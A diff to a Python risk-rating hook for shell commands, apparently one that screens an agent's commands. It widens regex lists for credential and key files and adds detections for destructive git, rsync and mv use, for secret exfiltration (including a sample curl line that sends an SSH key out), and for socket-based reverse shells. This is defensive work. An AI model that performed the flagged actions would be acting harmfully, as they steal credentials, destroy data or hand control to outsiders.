@@ -43,21 +43,26 @@ class _LazyRe:
             self._re = re.compile(*self._args)
         return getattr(self._re, name)
 
+# Secrets whose reading alone exposes them (to the model's provider, to logs): always asked.
 CREDENTIAL_PATH = _LazyRe(
     r"(?:^|/)(?:\.ssh/(?:id_[\w-]+|authorized_keys2?|known_hosts)|id_(?:rsa|dsa|ecdsa|ed25519)|"
     r"proc/[^/]+/environ|\.aws/(?:credentials|config)|\.config/gcloud(?:/|$)|\.kube/config|"
-    r"\.docker/config\.json|\.netrc|\.pgpass|\.git-credentials|\.gnupg(?:/|$)|\.npmrc|\.pypirc|"
+    r"\.docker/config\.json|\.netrc|\.pgpass|\.git-credentials|\.gnupg(?:/|$)|"
     r"\.env(?:\.(?!example|sample|template|dist|defaults?\b)[\w.-]+)?|\.vault-token|"
-    r"[\w.-]*\.(?:pem|key|p12|pfx|kdbx|keychain(?:-db)?)|shadow|gshadow|sudoers|master\.key|"
-    r"credentials\.json|secrets?\.(?:ya?ml|json|toml)|Login Data|Cookies|key4\.db|logins\.json|"
-    r"\.\w*sh_history|\.history|\.mysql_history|\.psql_history)(?:$|[?#])"
+    r"[\w.-]*\.(?:kdbx|keychain(?:-db)?)|shadow|gshadow|sudoers|\.config/gh/hosts\.yml|"
+    r"Login Data|Cookies|key4\.db|logins\.json|\.password-store(?:/|$)|"
+    r"\.\w*sh_history|\.history|\.mysql_history|\.psql_history|"
+    r"\.(?:ssh|aws|gnupg|kube|docker)/?)(?:$|[?#])"
 )
+# Key and secret files a project keeps (test certificates, a server.key): asked outside it.
+KEY_FILE = _LazyRe(r"(?:^|/)(?:[\w.-]*\.(?:pem|key|p12|pfx|jks|keystore)|master\.key|"
+                   r"credentials\.json|secrets?\.(?:ya?ml|json|toml)|\.npmrc|\.pypirc)$")
 _SYSTEM = ("/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot",
            "/var", "/opt", "/srv", "/sys", "/proc", "/dev", "/System", "/Library",
            "/Applications", "/private/etc", "/private/var", "/snap")
 _TEMP = ("/tmp", "/var/tmp", "/dev/shm", "/private/tmp", "/private/var/folders")
 _HARMLESS_DEV = ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero",
-                 "/dev/random", "/dev/urandom", "/dev/fd/")
+                 "/dev/random", "/dev/urandom", "/dev/fd/", "/proc/self/fd/")
 _BLOCK_DEVICE = _LazyRe(r"^/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/|loop|sr)")
 _STARTUP = _LazyRe(r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|"
                       r"zlogin|bash_logout|config/fish/config\.fish)$")
@@ -71,7 +76,7 @@ _STARTUP_ENTRY = _LazyRe(r"(?:^|/)(?:\.config/autostart/|\.config/systemd/user/|
 _PRELOAD = _LazyRe(r"^(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES|LD_AUDIT|PYTHONSTARTUP|"
                       r"NODE_OPTIONS|BASH_ENV|ENV|PROMPT_COMMAND)=(.*)$")
 _HISTORY_VARS = _LazyRe(r"^(?:HISTFILE|HISTSIZE|HISTFILESIZE|HISTCONTROL|HISTIGNORE|"
-                           r"PROMPT_COMMAND|SAVEHIST|HISTORY_IGNORE)=")
+                        r"SAVEHIST|HISTORY_IGNORE)=")
 _MAIN_BRANCHES = frozenset({"main", "master", "trunk", "develop", "production", "release"})
 _ORDER = {"low": 0, "medium": 1, "high": 2, "critical": 3}
 
@@ -134,6 +139,8 @@ def _path_class(value: str, cwd: str | None, workspace: str | None) -> str:
     base = base or "/"
     if base == "/":
         return "root"
+    if path.startswith("/proc/self/fd/"):
+        return "harmless"
     if path.startswith("/dev/"):
         return "device" if _BLOCK_DEVICE.match(path) else ("harmless" if path.startswith(
             _HARMLESS_DEV) else "system")
@@ -152,6 +159,10 @@ def _path_class(value: str, cwd: str | None, workspace: str | None) -> str:
         return "temp"
     if base in _TEMP:
         return "outside"
+    if re.match(re.escape(home) + r"/(?:\.cache|\.npm/_cacache|\.cargo/registry|\.gradle/caches|"
+                r"\.m2/repository|Library/Caches|\.local/share/Trash|\.pnpm-store|\.yarn/cache)"
+                r"(?:/|$)", base):
+        return "temp"  # caches: rebuilt on demand
     if base.startswith(home + "/"):
         return "home-file"
     for s in _SYSTEM:
@@ -172,6 +183,8 @@ def _targets(cmd: Cmd, words: list[Word], cwd: str | None, ws: str | None) -> li
         if w.found_under:
             for s in w.found_under:
                 cls = path_class(s, cwd, ws)
+                if cls == "outside" and posixpath.normpath(s) in _TEMP:
+                    cls = "temp"  # under /tmp
                 out.append((_UNDER.get(cls, cls) if w.filtered else cls, s))
         elif not w.static and re.match(r"^/(?:home|Users)/\$\{?\w+\}?/?$", w.value):
             out.append(("home", w.value))
@@ -258,7 +271,8 @@ def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
     sub, rest = args[i], args[i + 1:]
     flags = set(rest)
     paths = rest[rest.index("--") + 1:] if "--" in rest else []
-    whole = lambda ps: any(p in (".", "*", ":/", "./", ":/*") for p in ps)  # noqa: E731
+    roots = {".", "*", ":/", "./", ":/*", ws or ".", cmd.cwd or "."}
+    whole = lambda ps: any(p.rstrip("/") in roots or p in roots for p in ps)  # noqa: E731
     if sub == "reset" and "--hard" in flags:
         return [("critical", "git reset --hard discards uncommitted changes")]
     if sub == "checkout":
@@ -269,6 +283,13 @@ def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
         if paths:
             return [("medium", "git checkout -- reverts uncommitted changes to " + ", ".join(paths))]
         return []
+    if sub == "switch" and ({"-f", "--force", "--discard-changes"} & flags):
+        return [("high", "git switch --discard-changes drops uncommitted changes")]
+    if sub == "rm" and "--cached" not in flags and whole([a for a in rest if
+                                                          not a.startswith("-")]):
+        return [("critical", "git rm of the whole tree deletes the working files")]
+    if sub == "read-tree" and "--reset" in flags and "-u" in flags:
+        return [("critical", "git read-tree -u --reset discards uncommitted changes")]
     if sub == "restore":
         if ("--staged" in flags or "-S" in flags) and not ({"--worktree", "-W"} & flags):
             return []
@@ -339,6 +360,31 @@ def _perms(cmd: Cmd, ws: str | None) -> list[Finding]:
 _REMOTE = _LazyRe(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)|^(?:rsync|sftp|scp)://")
 _COPY_WITH_ARG = frozenset("-P -i -o -F -l -c -J -S -e --rsh --port --exclude --include "
                            "--filter -f --files-from --password-file --rsync-path".split())
+
+
+def _sync_delete(cmd: Cmd, ws: str | None) -> list[Finding]:
+    """``rsync --delete SRC DST`` deletes what DST has and SRC lacks: a delete of DST."""
+    if not any(a.startswith(("--delete", "--del")) or a == "--remove-source-files"
+               for a in cmd.args):
+        return []
+    operands = [w for w in cmd.argv[1:] if not w.value.startswith("-")]
+    if len(operands) < 2 or _REMOTE.match(operands[-1].value):
+        return []
+    cls, value = _targets(cmd, operands[-1:], cmd.cwd, ws)[0]
+    level = _DELETE_LEVEL.get((cls, True))
+    return [(level, f"rsync --delete empties {_CLASS_NAME[cls]} ({value})")] if level else []
+
+
+def _moves(cmd: Cmd, ws: str | None) -> list[Finding]:
+    """``mv`` of the root, a home folder, a system tree or the workspace away."""
+    operands = [w for w in cmd.argv[1:] if not w.value.startswith("-")]
+    out: list[Finding] = []
+    for cls, value in _targets(cmd, operands[:-1], cmd.cwd, ws):
+        if cls in ("root", "home", "system"):
+            out.append(("high", f"moves {_CLASS_NAME[cls]} away ({value})"))
+        elif cls in ("workspace", "git"):  # recoverable: moved, not deleted
+            out.append(("medium", f"moves {_CLASS_NAME[cls]} away ({value})"))
+    return out
 
 
 def _remote_copy(cmd: Cmd) -> list[Finding]:
@@ -446,7 +492,8 @@ _CLOUD_SECRET = _LazyRe(r"^(?:secrets?|get-secret-value|get-parameters?|get-sess
 
 def _cloud(cmd: Cmd) -> list[Finding]:
     """Cloud and cluster CLIs: changing resources, or reading their secrets."""
-    if cmd.prog not in _CLOUD:
+    if cmd.prog not in _CLOUD or any(a.startswith(("--dry-run", "--dryrun")) or a == "plan"
+                                     for a in cmd.args):
         return []
     words = [a for a in cmd.args if not a.startswith("-")][:4]
     if any(_CLOUD_SECRET.match(w) for w in words):
@@ -464,6 +511,12 @@ _UPLOAD = _LazyRe(r"^(?:-F|--form|-T|--upload-file|--data-binary|--data-raw|--da
 def _sends(cmd: Cmd) -> list[Finding]:
     """Data leaving the machine: uploads, DNS queries carrying data, remote output saved."""
     prog, args = cmd.prog, cmd.args
+    hosts = [a for a in args if not a.startswith("-") and re.match(
+        r"^(?:[a-z]+://)?(?:[^@/]*@)?[\w.-]+(?::\d+)?(?:/|$)", a)]
+    if hosts and all(re.match(r"^(?:[a-z]+://)?(?:[^@/]*@)?(?:localhost|127\.\d+\.\d+\.\d+|"
+                              r"0\.0\.0\.0|\[::1\]|host\.docker\.internal)(?::\d+)?(?:/|$)", h)
+                     for h in hosts[-1:]):
+        return []  # this machine's own services
     if prog in ("curl", "wget", "http", "https"):
         method = [args[i + 1].upper() for i, a in enumerate(args[:-1]) if a in ("-X", "--request")]
         method += [a.split("=", 1)[1].upper() for a in args if a.startswith("--method=")]
@@ -548,6 +601,9 @@ def _writes(cmd: Cmd, ws: str | None) -> list[Finding]:
         cls = path_class(v, cmd.cwd, ws)
         if cls == "device":
             out.append(("critical", f"writes to a block device ({v})"))
+        elif CREDENTIAL_PATH.search(v) and re.search(r"(?:^|/)\.env[^/]*$", v) and cls in (
+                "inside", "workspace", "temp"):
+            out.append(("medium", f"writes the project's .env file ({v})"))
         elif CREDENTIAL_PATH.search(v):
             out.append(("high", f"writes a credential or key file ({v})"))
         elif _STARTUP.search(v) or _STARTUP_ENTRY.search(v):
@@ -566,41 +622,90 @@ _METADATA = _LazyRe(r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.10
                        r"169\.254\.170\.2|fd00:ec2::254")
 
 
-def _credentials(cmd: Cmd, sink_network: bool) -> list[Finding]:
-    if cmd.prog in ("ls", "stat", "test", "[", "[[", "touch", "mkdir", "chmod", "echo", "printf",
-                    "ssh-keygen", "ssh-add", "ssh", "scp", "rsync", "sftp", "git", "find", "rm",
-                    "file", "ln"):
-        words = []
-    else:
-        words = [w.value for w in cmd.argv[1:] if w.static]
-    words += [w.value for op, w in cmd.redirects if op in ("<", "<<<") and w.static]
+_SECRET_VAR = _LazyRe(r"\$\{?(?:\w*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|"
+                     r"PRIVATE_KEY|CREDENTIAL)\w*)\}?", re.IGNORECASE)
+_NOT_READERS = frozenset({"ls", "stat", "test", "[", "[[", "touch", "mkdir", "chmod", "chown",
+                          "echo", "printf", "ssh-keygen", "ssh-add", "ssh", "scp", "rsync",
+                          "sftp", "git", "find", "rm", "file", "ln", "du", "wc", "realpath",
+                          "readlink", "dirname", "basename"})
+_PATTERN_FIRST = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk"})
+
+
+def _read_paths(cmd: Cmd) -> list[str]:
+    """The paths a command reads (not the ones it only writes, lists or searches for)."""
+    if cmd.prog in _NOT_READERS:
+        return []
+    words = [w for w in cmd.argv[1:] if w.static]
+    if cmd.prog in _PATTERN_FIRST and not any(w.value in ("-e", "-f", "--regexp", "--file")
+                                              for w in words):
+        operands = [w for w in words if not w.value.startswith("-")]
+        words = [w for w in words if w is not (operands[0] if operands else None)]
+    if cmd.prog in ("cp", "mv", "install", "tee", "dd"):  # the destination is written
+        operands = [w for w in words if not w.value.startswith("-")]
+        words = [w for w in words if w is not (operands[-1] if operands else None)]
+    out = [w.value for w in words]
+    out += [w.value for op, w in cmd.redirects if op in ("<", "<<<") and w.static]
     if cmd.prog in NETWORK:
-        words += [w.value.lstrip("@").split("=", 1)[-1].lstrip("@") for w in cmd.argv[1:]]
-    hits = [v for v in words if CREDENTIAL_PATH.search(v) or (v.startswith("-") and "=" in v
-            and CREDENTIAL_PATH.search(v.split("=", 1)[1]))]
+        out = [v.lstrip("@").split("=", 1)[-1].lstrip("@") for v in out]
+    return [v.split("=", 1)[1] if v.startswith("-") and "=" in v else v for v in out]
+
+
+def _credentials(cmd: Cmd, sink_network: bool, ws: str | None) -> list[Finding]:
     if cmd.prog in ("find", "locate", "mlocate", "fd", "fdfind"):
-        args = cmd.args
-        names = [args[i + 1] for i, a in enumerate(args[:-1]) if a in (
-            "-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-wholename")]
-        if cmd.prog != "find":
-            names = [a for a in args if not a.startswith("-")]
-        found = [n for n in names if _CRED_NAME.search(n)]
-        if found:
-            return [("high", f"reads credentials or keys (searches for {found[0]})")]
-    if cmd.prog in NETWORK and any(_METADATA.search(w.value) for w in cmd.argv[1:]):
-        return [("high", "reads credentials or keys (a cloud metadata endpoint)")]
+        return _credential_search(cmd, ws)
+    if cmd.prog in NETWORK:
+        if any(_METADATA.search(w.value) for w in cmd.argv[1:]):
+            return [("high", "reads credentials or keys (a cloud metadata endpoint)")]
+        for w in cmd.argv[1:]:  # curl http://x/$(cat ~/.ssh/id_rsa), -d "$API_TOKEN"
+            if not w.static and (_SECRET_VAR.search(w.value) or any(
+                    CREDENTIAL_PATH.search(t) for t in re.split(r"[\s|;&()`'\"]+", w.value))):
+                return [("critical", f"sends credentials over the network ({w.value[:60]})")]
+    if cmd.prog == "gh" and cmd.args[:2] in (["auth", "token"], ["auth", "status"]) and (
+            cmd.args[:2] == ["auth", "token"] or "--show-token" in cmd.args):
+        return [("high", "reads credentials or keys (gh auth token)")]
+    paths = _read_paths(cmd)
+    strong = [v for v in paths if CREDENTIAL_PATH.search(v)]
+    weak = [v for v in paths if KEY_FILE.search(v) and path_class(v, cmd.cwd, ws) not in (
+        "inside", "workspace", "temp")]
+    hits = strong or weak
+    if sink_network and (hits or cmd.prog in ("env", "printenv") or (
+            cmd.prog == "set" and not cmd.args)):
+        return [("critical", f"sends credentials over the network ({(hits or [cmd.prog])[0]})")]
     if not hits:
         return []
-    if cmd.prog in NETWORK or sink_network:
+    if cmd.prog in NETWORK:
         return [("critical", f"sends credentials over the network ({hits[0]})")]
     return [("high", f"reads credentials or keys ({hits[0]})")]
 
 
+def _credential_search(cmd: Cmd, ws: str | None) -> list[Finding]:
+    """find/locate/fd for key files outside the workspace (inside it, a listing is routine)."""
+    args = cmd.args
+    if cmd.prog == "find":
+        from ._parse import _find_starts
+
+        starts = _find_starts(cmd.argv[1:])[0]
+        if all(path_class(s, cmd.cwd, ws) in ("inside", "workspace", "git", "temp")
+               for s in starts):
+            return []
+        names = [args[i + 1] for i, a in enumerate(args[:-1]) if a in (
+            "-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-wholename")]
+    else:
+        names = [a for a in args if not a.startswith("-")]
+    found = [n for n in names if _CRED_NAME.search(n)]
+    return [("high", f"reads credentials or keys (searches for {found[0]})")] if found else []
+
+
 _PY_DELETE = {"shutil.rmtree": True, "os.remove": False, "os.unlink": False, "os.rmdir": False,
-              "os.removedirs": True, "rmtree": True, "remove": False, "unlink": False}
-_PY_SHELL = {"os.system", "os.popen", "subprocess.run", "subprocess.call", "subprocess.Popen",
-             "subprocess.check_call", "subprocess.check_output", "subprocess.getoutput",
-             "subprocess.getstatusoutput", "os.execv", "os.execvp", "pty.spawn", "os.spawnl"}
+              "os.removedirs": True, "rmtree": True, "remove": False, "unlink": False,
+              "rmdir": False}
+# Calls that run a shell command line (a string) or a program (a list of arguments).
+_PY_SHELL = ("system", "popen", "run", "call", "Popen", "check_call", "check_output",
+             "getoutput", "getstatusoutput", "spawn")
+_PY_EXEC = ("execv", "execve", "execvp", "execvpe", "execl", "execle", "execlp", "execlpe",
+            "spawnv", "spawnve", "spawnvp", "spawnvpe", "spawnl", "spawnle", "spawnlp",
+            "spawnlpe", "posix_spawn", "posix_spawnp")
+_SHELL_PATHS = re.compile(r"^(?:/usr)?/bin/(?:ba|z|da|k)?sh$|^(?:ba|z|da|k)?sh$")
 
 
 def _dotted(node) -> str:
@@ -610,85 +715,159 @@ def _dotted(node) -> str:
         return node.id
     if isinstance(node, ast.Attribute):
         return f"{_dotted(node.value)}.{node.attr}"
+    if isinstance(node, ast.Call):  # pathlib.Path('x').unlink, require('fs').rmSync
+        return _dotted(node.func) + "()"
     return ""
+
+
+def _py_path(node) -> str | None:
+    """A literal path a Python expression names: '/x', os.path.expanduser('~'), Path.home()."""
+    import ast
+
+    if isinstance(node, ast.Constant) and isinstance(node.value, str):
+        return node.value
+    if isinstance(node, ast.Call):
+        name = _dotted(node.func)
+        if name.endswith(("Path.home", "expanduser.home")) or name in ("home",):
+            return "~"
+        if name.endswith(("expanduser", "Path", "abspath", "realpath", "expandvars",
+                          "PurePath", "PosixPath")) and node.args:
+            return _py_path(node.args[0])
+        if name.endswith(".expanduser()") or name.endswith((".resolve", ".absolute")):
+            return _py_path(node.func.value) if isinstance(node.func, ast.Attribute) else None
+    if isinstance(node, ast.Attribute) and node.attr in ("expanduser", "resolve", "absolute"):
+        return _py_path(node.value)
+    return None
 
 
 def _python(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
     import ast  # only for python one-liners: a hook process does not pay for it otherwise
+    import shlex
 
     try:
         tree = ast.parse(code)
-    except (SyntaxError, ValueError):
-        return [("low", "python code not understood; text rules apply")]
+    except (SyntaxError, ValueError, MemoryError, RecursionError):
+        return [("high", "python code that could not be analysed")] if len(code) > 20_000 \
+            else []
     out: list[Finding] = []
+    names = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name)} | {
+        n.attr for n in ast.walk(tree) if isinstance(n, ast.Attribute)}
     for node in ast.walk(tree):
         if not isinstance(node, ast.Call):
             continue
         name = _dotted(node.func)
-        literal = next((a.value for a in node.args[:1] if isinstance(a, ast.Constant)
-                        and isinstance(a.value, str)), None)
-        if name in _PY_DELETE or name.endswith((".rmtree", ".unlink")):
-            recursive = _PY_DELETE.get(name, name.endswith(".rmtree"))
-            if literal is None and name.endswith(".unlink") and isinstance(node.func, ast.Attribute):
-                inner = node.func.value
-                if isinstance(inner, ast.Call) and inner.args and isinstance(inner.args[0], ast.Constant):
-                    literal = str(inner.args[0].value)
-            if literal is not None:
-                cls = path_class(posixpath.expanduser(literal), cmd.cwd, ws)
+        last = name.rsplit(".", 1)[-1].rstrip("()")
+        first = node.args[0] if node.args else next(
+            (k.value for k in node.keywords if k.arg in ("path", "args", "cmd", "src")), None)
+        if name in _PY_DELETE or last in ("rmtree", "unlink", "remove", "rmdir", "removedirs"):
+            recursive = _PY_DELETE.get(name, last in ("rmtree", "removedirs"))
+            target = _py_path(first) if first is not None else None
+            if target is None and isinstance(node.func, ast.Attribute) and last in (
+                    "unlink", "rmdir") and isinstance(node.func.value, ast.Call):
+                target = _py_path(node.func.value)  # Path('x').unlink()
+            if target is not None:
+                cls = path_class(posixpath.expanduser(target.replace("\x00", "")), cmd.cwd, ws)
                 level = _DELETE_LEVEL.get((cls, recursive))
                 if level:
-                    out.append((level, f"{name}() deletes {_CLASS_NAME[cls]} ({literal})"))
-        elif name in _PY_SHELL:
-            if literal is not None:
-                out.extend(again(literal))
-            elif node.args and isinstance(node.args[0], (ast.List, ast.Tuple)):
-                parts = [e.value for e in node.args[0].elts
+                    out.append((level, f"{name}() deletes {_CLASS_NAME[cls]} ({target})"))
+        elif last in _PY_SHELL or last in _PY_EXEC or name == "pty.spawn":
+            argv_node = node.args[1] if last in _PY_EXEC and len(node.args) > 1 and isinstance(
+                node.args[1], (ast.List, ast.Tuple)) else first
+            if isinstance(argv_node, ast.Constant) and isinstance(argv_node.value, str):
+                out.extend(again(argv_node.value))
+            elif isinstance(argv_node, (ast.List, ast.Tuple)):
+                parts = [e.value for e in argv_node.elts
                          if isinstance(e, ast.Constant) and isinstance(e.value, str)]
-                if len(parts) == len(node.args[0].elts) and parts:
-                    import shlex
+                if parts and len(parts) == len(argv_node.elts):
                     out.extend(again(" ".join(shlex.quote(p) for p in parts)))
+                    if _SHELL_PATHS.match(parts[0]) and "socket" in names and (
+                            "dup2" in names or "-i" in parts):
+                        out.append(("critical", "a shell wired to a network socket (reverse "
+                                                "shell)"))
+            if name == "pty.spawn" and "socket" in names:
+                out.append(("critical", "a shell wired to a network socket (reverse shell)"))
             elif name == "pty.spawn":
                 out.append(("high", "spawns a shell on a pseudo-terminal"))
-        elif name in ("exec", "eval") and node.args and isinstance(node.args[0], ast.Call):
+        elif last in ("exec", "eval") and node.args and isinstance(node.args[0], ast.Call):
             inner = _dotted(node.args[0].func)
             if re.search(r"b64decode|b32decode|decompress|unhexlify|decode|urlopen|\.read|get", inner):
                 out.append(("high", "decodes or downloads code and executes it"))
+        elif last == "open" and first is not None:
+            target = _py_path(first)
+            if target and CREDENTIAL_PATH.search(posixpath.expanduser(target)):
+                out.append(("high", f"reads credentials or keys ({target})"))
     return out
 
 
 _JS_DELETE = _LazyRe(r"\b(rmSync|rmdirSync|rm|rmdir|unlinkSync|unlink|rimraf|rm_rf|rm_r|"
-                        r"rmtree|remove_dir_all|remove_tree)\s*\(\s*['\"]([^'\"]+)['\"]")
-_JS_SHELL = _LazyRe(r"\b(?:execSync|exec|spawnSync|spawn|system|popen|qx|shell_exec|"
-                       r"passthru|proc_open)\s*\(\s*['\"]([^'\"]+)['\"]|`([^`$]+)`")
+                     r"rmtree|remove_dir_all|remove_tree)\s*\(\s*(?:['\"]([^'\"]+)['\"]|"
+                     r"((?:require\(\s*['\"]os['\"]\s*\)|os)\.homedir\(\s*\)|"
+                     r"process\.env\.HOME|Dir\.home|ENV\[['\"]HOME['\"]\]|\$ENV\{HOME\}))")
+# system("cmd"), exec "cmd", `cmd`, qx{cmd}, execSync('cmd'), system("rm","-rf","/") (a list)
+_JS_SHELL = _LazyRe(r"\b(?:execSync|execFileSync|exec|spawnSync|spawn|system|popen|qx|"
+                    r"shell_exec|passthru|proc_open|IO\.popen|Open3\.\w+)\s*\(?\s*"
+                    r"((?:['\"][^'\"]*['\"]\s*,?\s*)+)|`([^`$]+)`")
+_REVERSE = _LazyRe(r"fsockopen|socket\.socket|new\s+net\.Socket|net\.connect|IO::Socket|"
+                   r"TCPSocket|Socket\.new|/dev/tcp/")
 
 
 def _script(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
     out: list[Finding] = []
     for m in _JS_DELETE.finditer(code):
         recursive = m.group(1) not in ("unlinkSync", "unlink") or "recursive" in code
-        cls = path_class(posixpath.expanduser(m.group(2)), cmd.cwd, ws)
+        target = m.group(2) or "~"
+        cls = path_class(posixpath.expanduser(target), cmd.cwd, ws)
         level = _DELETE_LEVEL.get((cls, recursive))
         if level:
-            out.append((level, f"{m.group(1)}() deletes {_CLASS_NAME[cls]} ({m.group(2)})"))
+            out.append((level, f"{m.group(1)}() deletes {_CLASS_NAME[cls]} ({target})"))
     for m in _JS_SHELL.finditer(code):
-        out.extend(again(m.group(1) or m.group(2)))
+        if m.group(1):
+            parts = re.findall(r"['\"]([^'\"]*)['\"]", m.group(1))
+            line = " ".join(parts)
+        else:
+            line = m.group(2)
+        found = again(line)
+        out.extend(found)
+        if _REVERSE.search(code) and re.search(r"(?:^|/|\s)(?:ba|z|da)?sh\b", line):
+            out.append(("critical", "a shell wired to a network socket (reverse shell)"))
     return out
 
 
-def _inline_code(cmd: Cmd) -> str | None:
+_CODE_FLAGS = {"python": ("-c",), "node": ("-e", "-p", "--eval", "--print"),
+               "perl": ("-e", "-E"), "ruby": ("-e",), "php": ("-r",), "awk": ()}
+_OPTS_WITH_ARG = {"python": ("-W", "-X", "-Q"), "node": ("-r", "--require", "--import",
+                                                         "--loader", "--input-type"),
+                  "perl": ("-I", "-M", "-m"), "ruby": ("-I", "-r"), "php": ("-d", "-c")}
+
+
+def _inline_code(cmd: Cmd, lang: str) -> str | None:
     args = cmd.argv[1:]
-    flag = "-c" if INTERPRETERS.get(cmd.prog, cmd.prog.rstrip("0123456789.")) == "python" else "-e"
-    for i, w in enumerate(args):
-        v = w.value
-        glued = re.match(r"^-[a-zA-Z]*[" + ("c" if flag == "-c" else "eE") + r"](.+)$", v)
+    if lang == "awk":  # the program is the first operand
+        skip = False
+        for w in args:
+            if skip:
+                skip = False
+            elif w.value in ("-F", "-v", "-f", "--file", "--assign", "--field-separator"):
+                skip = True
+            elif not w.value.startswith("-"):
+                return w.value
+        return None
+    flags = _CODE_FLAGS.get(lang, ("-e",))
+    letters = "".join(f[1] for f in flags if len(f) == 2)
+    i = 0
+    while i < len(args):
+        v = args[i].value
+        if v in flags or (letters and re.match(r"^-[a-zA-Z]*[" + letters + r"]$", v)):
+            return args[i + 1].value if i + 1 < len(args) else None
+        glued = re.match(r"^-[a-zA-Z]*[" + letters + r"](.+)$", v) if letters else None
         if glued and not v.startswith("--"):
             return glued.group(1)
-        if v in (flag, "-E", "--eval", "-p", "--print") or (
-                v.startswith("-") and not v.startswith("--") and v[-1] in (
-                    ("c",) if flag == "-c" else ("e", "E"))):
-            return args[i + 1].value if i + 1 < len(args) else None
+        if v in _OPTS_WITH_ARG.get(lang, ()):
+            i += 2
+            continue
         if not v.startswith("-"):
             break
+        i += 1
     if cmd.stdin in ("heredoc", "literal") and cmd.stdin_text and (
             not [a for a in args if not a.value.startswith("-")] or "-" in cmd.args):
         return cmd.stdin_text
@@ -702,6 +881,8 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
     """
     out: list[Finding] = []
     sinks = {c.line for c in parsed.commands if c.prog in NETWORK and c.stdin is not None}
+    interactive = {c.line for c in parsed.commands if c.prog in SHELLS and (
+        not c.args or "-i" in c.args)}
     for cmd in parsed.commands:
         prog = cmd.prog
         if not cmd.argv:
@@ -715,10 +896,24 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
             else:  # eval "$(pyenv init -)" and the like: reported, not asked
                 out.append(("medium", f"runs code known only at run time ({cmd.wrappers[-1]})"))
             continue
+        if prog == "<dynamic program>" and any(re.match(r"^-[a-zA-Z]*[rRf]", a)
+                                               for a in cmd.args):
+            # $(echo rm) -rf ~: an unknown program, flags of a delete, and a target that matters
+            hits = [(c, v) for c, v in _targets(cmd, [w for w in cmd.argv[1:] if not
+                                                      w.value.startswith("-")], cmd.cwd,
+                                                workspace)
+                    if c in ("root", "home", "system", "device")]
+            if hits:
+                out.append(("high", f"a program known only at run time acts on "
+                                    f"{_CLASS_NAME[hits[0][0]]} ({hits[0][1]})"))
         if prog in ("rm", "unlink"):
             out.extend(_rm(cmd, workspace))
         elif prog in ("scp", "sftp", "rsync"):
             out.extend(_remote_copy(cmd))
+            if prog == "rsync":
+                out.extend(_sync_delete(cmd, workspace))
+        elif prog == "mv":
+            out.extend(_moves(cmd, workspace))
         elif prog in ("shred", "srm", "wipe"):
             out.append(("high", f"{prog} destroys file contents"))
         elif prog == "git":
@@ -734,7 +929,7 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
                     if a in ("-e", "-c", "--exec", "--sh-exec")]
             runs += [a.split(":", 1)[1] for a in args if a.startswith(("exec:", "EXEC:"))]
             if any(posixpath.basename(r.split()[0]) in SHELLS for r in runs if r.split()) or any(
-                    posixpath.basename(a) in SHELLS for a in args):
+                    posixpath.basename(a) in SHELLS for a in args) or cmd.line in interactive:
                 out.append(("critical", f"{prog} hands a shell to the network (reverse shell)"))
             elif runs:
                 out.append(("high", f"{prog} runs a command for the network ({runs[0]})"))
@@ -767,7 +962,7 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
                     out.append(("critical", "shell wired to a network socket (reverse shell)"))
         lang = INTERPRETERS.get(prog) or INTERPRETERS.get(re.sub(r"[\d.]+$", "", prog))
         if lang:
-            code = _inline_code(cmd)
+            code = _inline_code(cmd, lang)
             if code is None and cmd.stdin in ("network", "decoded", "dynamic") and not [
                     a for a in cmd.args if not a.startswith("-") or a.startswith("-m")]:
                 out.append(("critical" if cmd.stdin == "network" else "high",
@@ -786,7 +981,7 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
         out.extend(_history(cmd))
         out.extend(_remote_access(cmd))
         out.extend(_writes(cmd, workspace))
-        out.extend(_credentials(cmd, cmd.line in sinks))
+        out.extend(_credentials(cmd, cmd.line in sinks, workspace))
         if "sudo" in cmd.wrappers or "doas" in cmd.wrappers or "pkexec" in cmd.wrappers:
             out.append(("medium", "runs as root"))
         if any(op in (">", ">>", "&>") and ("/dev/tcp/" in w.value or "/dev/udp/" in w.value)
